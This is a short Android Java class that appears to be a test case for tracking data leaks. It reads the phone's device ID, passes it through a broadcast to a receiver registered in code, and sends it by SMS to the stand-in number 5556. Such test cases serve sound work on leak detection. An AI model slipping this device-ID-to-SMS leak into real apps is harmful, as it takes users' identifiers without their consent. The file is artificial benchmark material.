package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** A broadcast that a receiver registered in code hears. */
public class Heard extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        registerReceiver(new BroadcastReceiver() {
            @Override public void onReceive(Context c, Intent i) { SmsManager.getDefault().sendTextMessage("5556", null, i.getStringExtra("id"), null, null); }
        }, new IntentFilter("org.brookside.flows.HEAR"));
        sendBroadcast(new Intent("org.brookside.flows.HEAR").putExtra("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()));
    }
}
